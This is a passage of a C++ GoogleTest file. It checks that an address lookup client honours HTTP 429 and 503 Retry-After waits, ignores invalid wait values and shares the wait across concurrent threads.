  HttpServer a(asking_to_wait(429, "60")), b(asking_to_wait(503, "60"));
  EXPECT_EQ(lookup(a, b), shared::kErrorText);
  EXPECT_EQ(lookup(a, b, true), shared::kErrorText);
  EXPECT_EQ(a.requests() + b.requests(), 2u);
  EXPECT_EQ(read_bytes(temp_file()), stale_);
  for (const test::Handler& no_wait :
       {asking_to_wait(500, "60"), asking_to_wait(429, "soon"), asking_to_wait(503, "")}) {
    HttpServer c(no_wait);
    EXPECT_EQ(lookup(c, b_, true), kAddressB);
    EXPECT_EQ(lookup(c, b_, true), kAddressB);
    EXPECT_EQ(c.requests(), 2u);
  }
}

// Lookups on several threads at once share what the endpoints asked for.
TEST_F(Retrieval, ConcurrentAutomaticLookupsShareTheWait) {
  HttpServer a([](const test::Request& r) {
    Reply reply = asking_to_wait(429, "60")(r);
    reply.delay = std::chrono::milliseconds(20);
    return reply;
  });
  constexpr int kThreads = 4;
  std::size_t after_first_round = 0;
  for (int round = 0; round < 2; ++round) {
    std::latch go(kThreads);
    std::vector<std::thread> threads;
    std::vector<std::string> got(kThreads);
    for (int t = 0; t < kThreads; ++t)
      threads.emplace_back([&, t] {
        go.arrive_and_wait();
        got[t] = lookup(a, b_, true);
      });
    for (auto& th : threads) th.join();
    EXPECT_EQ(got, std::vector<std::string>(kThreads, kAddressB));
    if (round == 0) after_first_round = a.requests();
  }
  EXPECT_GE(after_first_round, 1u);
  EXPECT_EQ(a.requests(), after_first_round) << "asked after it said to wait";
}

}  // namespace
